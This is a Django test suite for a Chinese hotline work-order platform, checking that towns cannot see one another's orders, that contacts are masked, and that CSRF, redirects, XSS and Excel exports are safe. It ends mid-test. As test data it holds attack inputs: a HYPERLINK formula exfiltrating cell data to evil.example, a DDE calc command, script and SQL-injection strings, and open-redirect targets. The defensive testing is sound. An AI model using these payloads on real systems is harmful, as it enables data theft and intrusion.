"""Access control and input safety of every HTTP entry point.

钱 of 寄料镇 asks for every URL the platform has, with 杨楼镇's order, requests, assessment sheet,
appeal and adjustment substituted: nothing of 杨楼镇's order (its number, title, caller) may come
back, and nothing may change. Then: roles per page, masking and the audit trail, POST-only state
changes and CSRF, open redirects, XSS, Excel formula injection, and bad input in query strings.
"""

from __future__ import annotations

import datetime as dt
import io
import json

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from hotline.accounts.models import AuditLog
from hotline.assessment import actions as assess
from hotline.assessment.models import Appeal, ManualAdjustment
from hotline.briefing.models import Briefing
from hotline.catalog.models import KnowledgeArticle
from hotline.lib.text import NUL_MESSAGE
from hotline.web.forms import ACTION_FORMS
from hotline.workorders import actions
from hotline.workorders.models import Event, Request, WorkOrder
from tests.conftest import at

pytestmark = pytest.mark.django_db

CALLER_NAME, CALLER_PHONE = "欧阳娜娜", "13700001111"
TITLE = "杨楼村路灯全部不亮"
DEADLINE = at(2023, 7, 14, 18, 0)


@pytest.fixture
def world(people, unit, new_order):
    """杨楼镇's order Y (pending extension) and Y2 (pending return), 钱's own order Q in 寄料镇,
    a published July assessment with an appeal and an adjustment of 杨楼镇, a July briefing."""
    li, wang, zhao, qian, zhou = (people[k] for k in ("operator_li", "dispatcher_wang", "handler_zhao",
                                                       "handler_qian", "supervisor_zhou"))
    yanglou, jiliao = unit("杨楼镇"), unit("寄料镇")

    def dispatched(town, lead, **kw):
        order = new_order(town=town, **kw)
        actions.submit_for_dispatch(order, acting_user=li, at=at(2023, 7, 3, 9, 30))
        actions.dispatch(order, acting_user=wang, lead_unit=lead, handle_deadline=DEADLINE, at=at(2023, 7, 3, 10))
        return order

    y = dispatched(yanglou, yanglou, title=TITLE, caller_name=CALLER_NAME, caller_phone=CALLER_PHONE,
                   content=f"来电人{CALLER_NAME}（{CALLER_PHONE}）反映杨楼村路灯全部不亮。")
    actions.sign(y, acting_user=zhao, note=f"已联系来电人 {CALLER_PHONE}", at=at(2023, 7, 3, 11))
    actions.request_extension(y, acting_user=zhao, new_deadline=at(2023, 7, 20, 18), reason="需采购灯具",
                              basis="采购流程", at=at(2023, 7, 4, 9))
    y2 = dispatched(yanglou, yanglou, title=TITLE + "二", caller_name=CALLER_NAME, caller_phone=CALLER_PHONE)
    actions.request_return(y2, acting_user=zhao, reason="不属于本镇职责", basis="三定方案", at=at(2023, 7, 3, 12))
    q = dispatched(jiliao, jiliao, title="寄料街排水沟堵塞", caller_name="孙大圣", caller_phone="13600002222",
                   content="寄料街排水沟堵塞。")

    result = assess.compute_month(2023, 7, acting_user=zhou, at=at(2023, 8, 5, 9))
    assess.publish_result(result, acting_user=zhou, at=at(2023, 8, 5, 10))
    appeal = Appeal.objects.create(unit=yanglou, year=2023, month=7, result=result, line_code="x", line_label="x",
                                   line_points=-1, reason="杨楼镇的申诉", filed_by=zhao, filed_at=at(2023, 8, 6, 9))
    adjustment = assess.enter_adjustment(yanglou, 2023, 7, acting_user=zhou, points="-1", reason="杨楼镇的调整",
                                         at=at(2023, 8, 6, 9))
    briefing = Briefing.objects.create(year=2023, month=7)
    return {"y": y, "y2": y2, "q": q, "yanglou": yanglou, "jiliao": jiliao, "result": result, "appeal": appeal,
            "adjustment": adjustment, "briefing": briefing, "article": KnowledgeArticle.objects.first(),
            "extension": Request.objects.get(order=y), "return": Request.objects.get(order=y2)}


SECRETS = (CALLER_NAME, "欧阳**", CALLER_PHONE, "137****1111", TITLE)


def secrets_of(world) -> tuple[str, ...]:
    return (*SECRETS, world["y"].number, world["y2"].number)


def body_text(response) -> str:
    """The response as text; an Excel workbook as the text of all its cells."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if content[:2] == b"PK":
        from openpyxl import load_workbook

        wb = load_workbook(io.BytesIO(content))
        return "\n".join(str(v) for ws in wb.worksheets for row in ws.iter_rows(values_only=True)
                         for v in row if v is not None)
    return content.decode("utf-8", errors="replace")


def without_echo(text: str, params: dict) -> str:
    """What the user typed is echoed in the form and in return addresses (``next=``): not a leak."""
    for typed in params.values():
        for echo in (f"={typed}", f"%3D{typed}", f'value="{typed}"'):
            text = text.replace(echo, "")
    return text


def workbook_rows(response) -> list[list]:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(response.content))
    return [list(row) for ws in wb.worksheets for row in ws.iter_rows(values_only=True)]


def all_patterns():
    """(name, route, parameter names) of every URL of the project, admin, i18n and auth excepted."""
    out = []

    def walk(patterns, prefix, namespace):
        for p in patterns:
            if isinstance(p, URLResolver):
                ns = f"{namespace}{p.namespace}:" if p.namespace else namespace
                walk(p.url_patterns, prefix + str(p.pattern), ns)
            elif isinstance(p, URLPattern) and p.name:
                out.append((namespace + p.name, prefix + str(p.pattern), list(p.pattern.converters)))

    walk(get_resolver().url_patterns, "", "")
    return [o for o in out if not o[1].startswith(("admin/", "i18n/", "accounts/", "portal/", "open311/", "api/openapi.json"))]


# Pages 钱 may open at all (with nothing of 杨楼镇's in them); every other URL must answer 403/404/405.
# kb_new: a unit proposes a new article, owned by itself, for the center to review (GB/T 44191).
OPEN_TO_HANDLERS = {"home", "inbox", "dashboard", "kb_list", "kb_detail", "kb_search", "kb_new", "order_list",
                    "order_export", "healthz", "assessment:index", "assessment:mine", "api:orders",
                    "api:month_metrics",
                    # Her own notifications only (another's id marks nothing), and her own live stream.
                    "notifications", "notifications_read_all", "notification_read", "live_stream",
                    # Her own notification preferences: the page names nobody else.
                    "notification_preferences"}


def substitutions(world, param: str) -> list:
    y = world["y"]
    values = {
        "key": [y.number, y.pk],
        "action": sorted(ACTION_FORMS),
        "pk": [world["article"].pk],
        "year": [2023], "month": [7], "number": [1], "version": [world["result"].version],
        "fmt": ["docx", "html", "pdf"],
        "unit_id": [world["yanglou"].pk],
        "appeal_id": [world["appeal"].pk],
        "adjustment_id": [world["adjustment"].pk],
        # The near-duplicate review's two decisions; the pk is not a pair, but the role check
        # comes first, so a handler is refused before anything is looked up.
        "decision": ["dismiss", "repeat"],
    }
    assert param in values, f"a new URL parameter {param!r}: give it 杨楼镇's object here"
    return values[param]


def expand(world, name, params):
    combos = [{}]
    for param in params:
        combos = [{**c, param: v} for c in combos for v in substitutions(world, param)]
    return [reverse(name, kwargs=c) for c in combos]


def state_of(world):
    y, y2 = (WorkOrder.objects.get(pk=world[k].pk) for k in ("y", "y2"))
    return (y.status, y2.status, Event.objects.count(), Request.objects.filter(state="pending").count(),
            Appeal.objects.filter(state="pending").count(), ManualAdjustment.objects.filter(state="pending").count(),
            WorkOrder.objects.count(), KnowledgeArticle.objects.count(), Briefing.objects.get().build_state)


def test_every_url_keeps_yanglou_from_jiliao(client, people, world, settings):
    settings.HOTLINE_LIVE_STREAM_SECONDS = 0  # the live stream answers its first event and ends
    client.force_login(people["handler_qian"])
    before = state_of(world)
    secrets = secrets_of(world)
    patterns = all_patterns()
    assert len(patterns) >= 40  # every app's urls were found
    seen = set()
    for name, _route, params in patterns:
        seen.add(name)
        for url in expand(world, name, params):
            for method in ("get", "post"):
                response = getattr(client, method)(url, {"note": "x", "reason": "x", "decision": "accept",
                                                         "correction_points": "1", "answer": "x"})
                text = body_text(response)
                for secret in secrets:
                    assert secret not in text, f"{method.upper()} {url} shows {secret}"
                if name not in OPEN_TO_HANDLERS:
                    assert response.status_code in (403, 404, 405), f"{method.upper()} {url}: {response.status_code}"
    assert OPEN_TO_HANDLERS <= seen
    assert state_of(world) == before
    # The month's indicators are open to a unit, but only its own row: no other unit's figures.
    metrics = client.get(reverse("api:month_metrics", args=[2023, 7])).json()
    assert [u["short_name"] for u in metrics["units"]] == ["寄料镇"] and "center" not in metrics


def test_searches_lists_and_exports_never_show_yanglou_to_jiliao(client, people, world):
    client.force_login(people["handler_qian"])
    y, secrets = world["y"], secrets_of(world)
    queries = [{"number": y.number}, {"phone": CALLER_PHONE}, {"q": "路灯"}, {"lead_unit": world["yanglou"].pk},
               {"town": world["yanglou"].pk}, {"status": "handling"}, {}]
    for params in queries:
        for name in ("order_list", "order_export", "dashboard", "home", "inbox"):
            text = without_echo(body_text(client.get(reverse(name), params)), params)
            for secret in secrets:
                assert secret not in text, f"{name} {params} shows {secret}"
    own = client.get(reverse("order_list"), {"number": world["q"].number}).content.decode()
    assert world["q"].number in own  # the search works; it is only narrowed
    for params in ({"caller_phone": CALLER_PHONE}, {"kb": "路灯"}):
        for name in ("intake_lookup", "kb_search"):
            text = without_echo(body_text(client.get(reverse(name), params)), params)
            assert not [s for s in secrets if s in text], (name, params)
    api = client.get(reverse("api:order_detail", args=[y.number]))
    assert api.status_code == 404 and json.loads(api.content) == {"error": "工单不存在或无权查看"}
    assert client.get(reverse("api:order_detail", args=[world["q"].number])).status_code == 200


def test_jiliao_cannot_act_on_yanglou_requests_or_sheet(client, people, world):
    client.force_login(people["handler_qian"])
    y, y2 = world["y"], world["y2"]
    for order, action in ((y, "reply"), (y, "approve_extension"), (y2, "approve_return"), (y, "request_return")):
        response = client.post(reverse("order_action", args=[order.number, action]),
                               {"public_reply": "x", "note": "x", "reason": "x", "basis": "x"})
        assert response.status_code == 404
    yl = world["yanglou"].pk
    assert client.post(reverse("assessment:file_appeal", args=[2023, 7, yl]),
                       {"line_code": "x", "reason": "x"}).status_code == 404
    assert client.get(reverse("assessment:sheet", args=[2023, 7, yl])).status_code == 404
    assert client.get(reverse("assessment:sheet", args=[2023, 7, world["jiliao"].pk])).status_code == 200
    assert Request.objects.filter(state="pending").count() == 2
    assert not Appeal.objects.exclude(pk=world["appeal"].pk).exists()


# ---------------------------------------------------------------------------------------------
# Roles per page


ROLE_PAGES = [
    # (url name, args, roles that may open it)
    ("intake", [], {"operator_li", "dispatcher_wang", "supervisor_zhou", "admin"}),
    ("intake_lookup", [], {"operator_li", "dispatcher_wang", "supervisor_zhou", "admin"}),
    ("dispatch", [], {"dispatcher_wang", "supervisor_zhou", "admin"}),
    ("inbox", [], {"handler_zhao", "handler_qian", "handler_sun", "admin"}),
    ("callbacks", [], {"operator_li", "dispatcher_wang", "supervisor_zhou", "admin"}),
    ("supervision", [], {"dispatcher_wang", "supervisor_zhou", "admin"}),
    ("kb_new", [], {"operator_li", "dispatcher_wang", "supervisor_zhou", "admin", "handler_zhao", "handler_qian",
                    "handler_sun"}),
    ("briefing:list", [], {"supervisor_zhou", "admin"}),
    ("briefing:stats", [], {"supervisor_zhou", "admin"}),
    ("briefing:edit", [2023, 7], {"supervisor_zhou", "admin"}),
    ("assessment:month", [2023, 7], {"dispatcher_wang", "supervisor_zhou", "admin"}),
    ("assessment:appeals", [], {"dispatcher_wang", "supervisor_zhou", "admin"}),
    ("assessment:adjustments", [], {"dispatcher_wang", "supervisor_zhou", "admin"}),
    ("audit_log", [], {"auditor_wu", "admin"}),
]


@pytest.mark.parametrize(("name", "args", "allowed"), ROLE_PAGES, ids=[p[0] for p in ROLE_PAGES])
def test_role_pages(client, people, world, name, args, allowed):
    url = reverse(name, args=args)
    for username, user in people.items():
        client.force_login(user)
        status = client.get(url).status_code
        if username in allowed:
            assert status == 200, f"{username} {url}: {status}"
        else:
            assert status in (403, 404), f"{username} {url}: {status}"


def test_anonymous_is_sent_to_login_everywhere(world):
    anonymous = Client()
    for name, _route, params in all_patterns():
        if name == "healthz":
            continue
        url = expand(world, name, params)[0]
        response = anonymous.get(url)
        if name.startswith("api:"):
            assert response.status_code in (401, 405), url
        elif name == "live_stream":
            assert response.status_code == 204, url  # an EventSource stops on 204; it cannot follow a login
        elif name == "notify:dlr":
            assert response.status_code == 403, url  # Kannel's reports prove themselves with a token, not a login
        else:
            assert response.status_code == 302 and response["Location"].startswith("/accounts/login/"), url
        assert not any(s in body_text(response) for s in secrets_of(world))


def test_auditor_sees_no_orders_but_the_audit_log(client, people, world):
    client.force_login(people["auditor_wu"])
    assert client.get(reverse("order_detail", args=[world["y"].number])).status_code == 404
    assert world["y"].number not in client.get(reverse("order_list")).content.decode()
    client.force_login(people["supervisor_zhou"])
    client.post(reverse("order_reveal", args=[world["y"].number]))
    client.force_login(people["auditor_wu"])
    page = client.get(reverse("audit_log"))
    assert page.status_code == 200
    text = page.content.decode()
    assert "reveal_contact" in text or "查看联系方式" in text
    assert world["y"].number in text and "supervisor_zhou" in text or "周" in text
    assert CALLER_PHONE not in text


# ---------------------------------------------------------------------------------------------
# Contact details: masked, confidential callers never to units, reveals and exports audited


def test_confidential_caller_never_reaches_the_unit(client, people, unit, new_order):
    li, wang = people["operator_li"], people["dispatcher_wang"]
    order = new_order(confidential=True, caller_name=CALLER_NAME, caller_phone=CALLER_PHONE,
                      title=f"{CALLER_NAME}举报杨楼村违建",
                      content=f"来电人（电话{CALLER_PHONE}）举报杨楼村违建，请勿透露其身份。")
    actions.submit_for_dispatch(order, acting_user=li, note=f"来电人要求保密，回访请拨 {CALLER_PHONE}",
                                at=at(2023, 7, 3, 9, 30))
    actions.dispatch(order, acting_user=wang, lead_unit=unit("杨楼镇"), handle_deadline=DEADLINE,
                     note=f"请核实，来电人 {CALLER_PHONE}", at=at(2023, 7, 3, 10))
    client.force_login(people["handler_zhao"])
    for url in (reverse("order_detail", args=[order.number]), reverse("inbox"), reverse("order_list"),
                reverse("order_export"), reverse("order_detail", args=[order.number]) + "?print=1",
                reverse("order_action", args=[order.number, "sign"])):
        text = body_text(client.get(url))
        assert CALLER_PHONE not in text and "137****1111" not in text, url
        assert CALLER_NAME not in text and "欧阳**" not in text, url
    api = client.get(reverse("api:order_detail", args=[order.number])).content.decode()
    assert order.number in api and CALLER_NAME not in api
    # Guessing the caller's number or name in the search does not single the order out.
    for params in ({"phone": CALLER_PHONE}, {"q": CALLER_PHONE}, {"q": CALLER_NAME}, {"q": "娜娜"}):
        for name in ("order_list", "order_export"):
            text = body_text(client.get(reverse(name), params))
            assert order.number not in without_echo(text, params), (name, params)
    assert order.number in client.get(reverse("order_list"), {"q": "违建"}).content.decode()
    detail = client.get(reverse("order_detail", args=[order.number])).content.decode()
    assert order.number in detail and "（保密）" in detail and "请勿透露其身份" in detail
    assert client.post(reverse("order_reveal", args=[order.number])).status_code == 403
    assert not AuditLog.objects.filter(action="reveal_contact").exists()
    # The center still reads the whole text.
    client.force_login(people["dispatcher_wang"])
    assert CALLER_PHONE in client.get(reverse("order_detail", args=[order.number])).content.decode()
    assert order.number in client.get(reverse("order_list"), {"phone": CALLER_PHONE}).content.decode()
    assert WorkOrder.objects.get(pk=order.pk).title == f"{CALLER_NAME}举报杨楼村违建"  # display only


def test_lists_mask_and_reveal_is_audited(client, people, world):
    client.force_login(people["handler_zhao"])
    y = world["y"]
    detail = client.get(reverse("order_detail", args=[y.number])).content.decode()
    assert "欧阳**" in detail and "137****1111" in detail
    assert CALLER_NAME not in detail.split("诉求内容")[0]
    assert client.get(reverse("order_reveal", args=[y.number])).status_code == 405
    assert not AuditLog.objects.filter(action="reveal_contact").exists()
    revealed = client.post(reverse("order_reveal", args=[y.number]))
    assert revealed.status_code == 200 and CALLER_PHONE in revealed.content.decode()
    log = AuditLog.objects.get(action="reveal_contact")
    assert log.actor == people["handler_zhao"] and log.object_id == y.number
    client.force_login(people["operator_li"])
    lookup = client.get(reverse("intake_lookup"), {"caller_phone": CALLER_PHONE}).content.decode()
    assert y.number in lookup and CALLER_NAME not in lookup


def test_export_is_audited_and_masks_where_the_role_may_not_reveal(client, people, world):
    y = world["y"]
    # A unit reveals callers one at a time, so 赵's export is masked; the dispatcher, who calls
    # citizens back, exports them in full (audited); the admin configures, and sees masks.
    masked = f"{CALLER_PHONE[:3]}****{CALLER_PHONE[-4:]}"
    for username, phone in (("handler_zhao", masked), ("dispatcher_wang", CALLER_PHONE), ("admin", "137****1111")):
        client.force_login(people[username])
        response = client.get(reverse("order_export"))
        assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
        rows = workbook_rows(response)
        header, data = rows[0], rows[1:]
        row = next(r for r in data if r[0] == y.number)
        assert row[header.index("联系电话")] == phone
        assert AuditLog.objects.filter(action="export", actor=people[username]).count() == 1
        if username == "handler_zhao":
            assert world["q"].number not in {r[0] for r in data}


# ---------------------------------------------------------------------------------------------
# Excel formula injection


def test_excel_cells_are_never_formulas(client, people, unit, new_order):
    from openpyxl import load_workbook

    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"]
    for text in evil:
        new_order(title=text, content=text, caller_name=text[:10])
    client.force_login(people["dispatcher_wang"])
    response = client.get(reverse("order_export"))
    wb = load_workbook(io.BytesIO(response.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    for text in evil:
        assert text in values  # kept exactly as typed, as text
    # ... and marked so that editing the cell in Excel/WPS does not turn it into a formula either.
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@")


def test_assessment_export_cells_are_never_formulas(client, people, world):
    from openpyxl import load_workbook

    world["yanglou"].__class__.objects.filter(pk=world["yanglou"].pk).update(name="=1+1杨楼镇人民政府")
    client.force_login(people["supervisor_zhou"])
    response = client.get(reverse("assessment:export", args=[2023, 7]))
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.quotePrefix for c in cells if c.value == "=1+1杨楼镇人民政府"] == [True]
    assert AuditLog.objects.filter(action="export", object_type="assessment.monthlyresult").count() == 1


# ---------------------------------------------------------------------------------------------
# POST-only state changes, CSRF, redirects, XSS


def test_state_changes_need_post(client, people, world):
    y = world["y"]
    client.force_login(people["dispatcher_wang"])
    before = state_of(world)
    for url in (reverse("order_action", args=[y.number, "approve_extension"]) + "?note=x",
                reverse("order_reveal", args=[y.number]),
                reverse("briefing:build", args=[2023, 7]), reverse("briefing:publish", args=[2023, 7]),
                reverse("assessment:compute", args=[2023, 7]),
                reverse("assessment:decide_appeal", args=[world["appeal"].pk]) + "?decision=accept&reason=x",
                reverse("assessment:decide_adjustment", args=[world["adjustment"].pk]) + "?decision=approve"):
        assert client.get(url).status_code in (200, 404, 405), url
    assert state_of(world) == before


def test_csrf_is_enforced_on_forms_htmx_and_the_api(people, world, unit):
    c = Client(enforce_csrf_checks=True)
    c.force_login(people["dispatcher_wang"])
    y = world["y"]
    before = state_of(world)
    assert c.post(reverse("order_action", args=[y.number, "approve_extension"]), {"note": "x"},
                  HTTP_HX_REQUEST="true").status_code == 403
    assert c.post(reverse("order_reveal", args=[y.number]), HTTP_HX_REQUEST="true").status_code == 403
    payload = {"title": "接口登记", "content": "接口登记的工单", "caller_phone": "13900000000"}
    assert c.post(reverse("api:orders"), json.dumps(payload), content_type="application/json").status_code == 403
    assert state_of(world) == before
    assert not AuditLog.objects.exclude(action="login").exists()  # nothing revealed (the login is audited)
    # With the token (as htmx sends it from the page's cookie) the same request goes through.
    c.get(reverse("order_detail", args=[y.number]))
    token = c.cookies["csrftoken"].value
    response = c.post(reverse("api:orders"), json.dumps(payload), content_type="application/json",
                      HTTP_X_CSRFTOKEN=token)
    assert response.status_code == 201


def test_api_refuses_roles_that_do_not_register(client, people):
    client.force_login(people["handler_qian"])
    response = client.post(reverse("api:orders"), json.dumps({"title": "x", "content": "y"}),
                           content_type="application/json")
    assert response.status_code in (400, 403)
    assert "登记" in json.loads(response.content)["error"]
    assert not WorkOrder.objects.exists()


def test_next_parameter_never_leaves_the_site(client, people, world):
    y = world["y"]
    client.force_login(people["dispatcher_wang"])
    for nxt in ("https://evil.example/", "//evil.example/", "/\\evil.example", "javascript:alert(1)"):
        response = client.post(reverse("order_action", args=[y.number, "approve_extension"]) + f"?next={nxt}",
                               {"note": "同意", "next": nxt})
        assert response.status_code == 302
        assert response["Location"] == reverse("order_detail", args=[y.number])
        break  # one approval is enough: the extension is no longer pending after it
    anonymous = Client()
    login = anonymous.post("/accounts/login/?next=https://evil.example/",
                           {"username": "dispatcher_wang", "password": "hotline12345",
                            "next": "https://evil.example/"})
    assert login.status_code == 302 and "evil.example" not in login["Location"]


def test_user_text_is_escaped_everywhere(client, people, unit, new_order):
    script = "<script>alert('xss')</script>"
    order = new_order(title=script, content=script, caller_name="<b>x</b>", address=script)
    actions.submit_for_dispatch(order, acting_user=people["operator_li"], note=script, at=at(2023, 7, 3, 9, 30))
    client.force_login(people["dispatcher_wang"])
    for url in (reverse("order_detail", args=[order.number]), reverse("order_list"), reverse("dispatch"),
                reverse("order_action", args=[order.number, "dispatch"])):
        text = client.get(url).content.decode()
        assert script not in text and "&lt;script&gt;" in text, url
    client.force_login(people["supervisor_zhou"])
    revealed = client.post(reverse("order_reveal", args=[order.number])).content.decode()
    assert "<b>x</b>" not in revealed and "&lt;b&gt;x&lt;/b&gt;" in revealed
    client.force_login(people["operator_li"])
    lookup = client.get(reverse("intake_lookup"), {"caller_phone": order.caller_phone}).content.decode()
    assert script not in lookup


def test_download_filenames_are_safe(client, people, world):
    client.force_login(people["supervisor_zhou"])
    for url in (reverse("order_export"), reverse("assessment:export", args=[2023, 7])):
        disposition = client.get(url)["Content-Disposition"]
        assert disposition.startswith("attachment; filename")
        assert "\n" not in disposition and "/" not in disposition.split("filename", 1)[1]


# ---------------------------------------------------------------------------------------------
# Bad input: a clear Chinese error or an empty result, never a 500, nothing changed

HUGE = "9" * 30


BAD_GETS = [
    ("order_detail", [HUGE], 404), ("order_detail", ["²"], 404), ("order_detail", ["0"], 404),
    ("order_detail", ["RZ2307-' OR 1=1 --"], 404),
    ("api:order_detail", [HUGE], 404), ("api:order_detail", ["²"], 404),
    ("order_action", [HUGE, "sign"], 404),
    ("assessment:sheet", [2023, 7, int(HUGE)], 404),
    ("assessment:month", [int(HUGE), 7], 404), ("assessment:month", [2023, 13], 404),
    ("assessment:export", [int(HUGE), 7], 404),
    ("briefing:edit", [int(HUGE), 7], 404), ("briefing:edit", [2023, 13], 404),
    ("briefing:download", [2023, 7, int(HUGE), "docx"], 404),
    ("kb_detail", [int(HUGE)], 404),
]


@pytest.mark.parametrize(("name", "args", "status"), BAD_GETS, ids=[f"{b[0]}-{i}" for i, b in enumerate(BAD_GETS)])
def test_malformed_ids_answer_404(client, people, world, name, args, status):
    client.force_login(people["supervisor_zhou"])
    assert client.get(reverse(name, args=args)).status_code == status


BAD_QUERIES = [
    ("order_list", {"cursor": "1e400_1"}), ("order_list", {"cursor": "nan_1"}), ("order_list", {"cursor": "x"}),
    ("order_list", {"cursor": f"{HUGE}_1"}), ("order_list", {"cursor": f"1_{HUGE}"}),
    ("order_list", {"lead_unit": HUGE}), ("order_list", {"town": "²"}), ("order_list", {"from": "2023-13-45"}),
    ("order_list", {"to": "0000-01-01"}), ("order_list", {"status": "'; DROP TABLE x; --"}),
    ("order_list", {"sort": "password"}), ("order_list", {"number": "%_"}),
    ("order_export", {"lead_unit": HUGE}), ("order_export", {"from": "yesterday"}),
    ("dashboard", {"date": "0001-01-01"}), ("dashboard", {"date": "9999-12-31"}), ("dashboard", {"date": "x"}),
    ("intake_lookup", {"town": HUGE, "category": "x", "caller_phone": "1" * 200}),
    ("intake_lookup", {"town": "²", "caller_phone": "13700001111"}),
    ("assessment:month", {"version": HUGE}), ("assessment:index", {"period": f"{HUGE}-07"}),
    ("assessment:index", {"period": "2023-7-1"}),
    ("briefing:stats", {"start": "2023-07-01", "end": "x"}), ("briefing:stats", {"month": "2023-13"}),
    ("briefing:stats", {"start": "0001-01-01", "end": "0001-01-02"}), ("briefing:stats", {"unit": HUGE}),
    ("kb_list", {"q": "%" * 50}), ("kb_search", {"kb": "\x00"}),
]


@pytest.mark.parametrize(("name", "params"), BAD_QUERIES, ids=[f"{b[0]}-{i}" for i, b in enumerate(BAD_QUERIES)])
def test_malformed_query_strings_do_not_500(client, people, world, name, params):
    client.force_login(people["supervisor_zhou"])
    args = [2023, 7] if name == "assessment:month" else []
    response = client.get(reverse(name, args=args), params)
    assert response.status_code in (200, 302, 400, 404), response.status_code
    if response.status_code == 302:
        assert "/evil" not in response["Location"]


def test_bad_posts_get_a_chinese_error_and_change_nothing(client, people, world):
    client.force_login(people["supervisor_zhou"])
    before = state_of(world)
    response = client.post(reverse("assessment:adjustments"), {"unit": "abc", "period": "2023-07", "points": "1",
                                                               "reason": "x"}, follow=True)
    assert response.status_code == 200 and "参加考核的单位" in response.content.decode()
    response = client.post(reverse("assessment:adjustments"), {"unit": HUGE, "period": "2023-07", "points": "1",
                                                               "reason": "x"}, follow=True)
    assert response.status_code == 200 and "参加考核的单位" in response.content.decode()
    response = client.post(reverse("assessment:adjustments"), {"unit": world["yanglou"].pk, "period": "2023-07",
                                                               "points": "abc", "reason": "x"}, follow=True)
    assert "分值必须是数字" in response.content.decode()
    response = client.post(reverse("assessment:decide_appeal", args=[world["appeal"].pk]),
                           {"decision": "accept", "reason": "x", "correction_points": "NaN"}, follow=True)
    assert response.status_code == 200 and "分值" in response.content.decode()
    response = client.post(reverse("briefing:create"), {"month": "2023-99"}, follow=True)
    assert response.status_code == 200
    response = client.post(reverse("briefing:edit", args=[2023, 7]), {"issue_date": "2023-02-30"}, follow=True)
    assert "印发日期格式" in response.content.decode()
    client.force_login(people["dispatcher_wang"])
    y = world["y"]
    response = client.post(reverse("order_action", args=[y.number, "approve_extension"]),
                           {"deadline": "2023-99-99 25:61", "note": ""})
    assert response.status_code == 200
    assert state_of(world) == before
    api = client.post(reverse("api:orders"), "{not json", content_type="application/json")
    assert api.status_code == 400 and "JSON" in json.loads(api.content)["error"]
    api = client.post(reverse("api:orders"), json.dumps({"title": "x", "content": "y", "town": HUGE}),
                      content_type="application/json")
    assert api.status_code == 400
    api = client.post(reverse("api:orders"), json.dumps({"title": "x", "content": "y", "category": ["x"]}),
                      content_type="application/json")
    assert api.status_code == 400
    assert state_of(world) == before


def test_dates_in_the_dashboard_are_bounded(client, people, world):
    client.force_login(people["supervisor_zhou"])
    assert client.get(reverse("dashboard"), {"date": "2023-07-03"}).status_code == 200
    for bad in ("0001-01-01", "9999-12-31", "2023-02-30"):
        text = client.get(reverse("dashboard"), {"date": bad}).content.decode()
        assert "已显示今天的统计" in text
    tomorrow = (dt.date.today() + dt.timedelta(days=2)).isoformat()
    assert "已显示今天的统计" in client.get(reverse("dashboard"), {"date": tomorrow}).content.decode()


@pytest.mark.parametrize("month", ["0000-01", "0001-01", "9999-12", "2023-7-1", ""])
def test_briefing_months_out_of_range_are_refused(client, people, world, month):
    client.force_login(people["supervisor_zhou"])
    before = Briefing.objects.count()
    response = client.post(reverse("briefing:create"), {"month": month}, follow=True)
    assert response.status_code == 200
    assert "月份" in response.content.decode()
    assert Briefing.objects.count() == before


def test_nul_characters_are_refused_before_any_view(client, people):
    client.force_login(people["dispatcher_wang"])
    for url in (reverse("order_list") + "?q=%00", reverse("kb_search") + "?kb=a%00b"):
        response = client.get(url)
        assert response.status_code == 400 and NUL_MESSAGE in response.content.decode()


def test_register_refuses_nul_in_text(people, new_order):
    from hotline.workorders.models import WorkOrder
    from hotline.workorders.workflow import WorkflowError

    with pytest.raises(WorkflowError, match=NUL_MESSAGE):
        new_order(content="正常内容\x00")
    assert not WorkOrder.objects.exists()


# ---------------------------------------------------------------------------------------------
# Web security (issue 12, class 9): login throttling and audit, password rules, idle timeout,
# Content-Security-Policy, no-store, TOTP, order views and exports audited, DEBUG and error pages.

RIGHT = "hotline12345"  # the demo people's password (ensure_people sets it directly)


def login_post(c, username, password, **extra):
    return c.post(reverse("login"), {"username": username, "password": password}, **extra)


def logged_in(c) -> bool:
    return c.get(reverse("home")).status_code == 200


def test_thirty_wrong_passwords_lock_out_the_right_one(people, settings):
    import time_machine

    c = Client()
    with time_machine.travel(dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC), tick=False) as clock:
        statuses = [login_post(c, "dispatcher_wang", f"wrong-{i}").status_code for i in range(30)]
        assert statuses[:settings.AXES_FAILURE_LIMIT - 1] == [200] * (settings.AXES_FAILURE_LIMIT - 1)
        assert set(statuses[settings.AXES_FAILURE_LIMIT:]) == {429}
        refused = login_post(c, "dispatcher_wang", RIGHT)
        assert refused.status_code == 429 and "登录已暂时锁定" in refused.content.decode()
        assert "30 分钟" in refused.content.decode()
        assert not logged_in(c)
        # Every attempt is in the audit log, the refused right password as a locked attempt.
        rows = AuditLog.objects.filter(action="login", object_id="dispatcher_wang")
        assert rows.count() == 31
        # The failure that reaches the limit already answers with the lockout page.
        assert rows.filter(detail__result="已锁定，拒绝登录").count() == 31 - (settings.AXES_FAILURE_LIMIT - 1)
        assert all(r.ip == "127.0.0.1" and r.actor_id == people["dispatcher_wang"].pk for r in rows)
        # The lock is per username and address: another person here, or 王 elsewhere, still logs in.
        assert login_post(Client(), "operator_li", RIGHT).status_code == 302
        assert login_post(Client(REMOTE_ADDR="10.1.2.3"), "dispatcher_wang", RIGHT).status_code == 302
        clock.shift(dt.timedelta(minutes=29))
        assert login_post(c, "dispatcher_wang", RIGHT).status_code == 429
        clock.shift(dt.timedelta(minutes=29))  # each attempt while locked restarts the 30 minutes
        assert login_post(c, "dispatcher_wang", RIGHT).status_code == 429
        clock.shift(dt.timedelta(minutes=31))
        assert login_post(c, "dispatcher_wang", RIGHT).status_code == 302
        assert logged_in(c)


def test_logins_failures_and_logouts_are_audited_and_shown_to_the_auditor(people):
    c = Client(REMOTE_ADDR="10.9.8.7")
    assert login_post(c, "nobody_here", "x").status_code == 200
    assert login_post(c, "operator_li", RIGHT).status_code == 302
    assert c.post(reverse("logout")).status_code == 302
    rows = list(AuditLog.objects.order_by("id").values_list("action", "actor__username", "object_id",
                                                            "detail__result", "ip"))
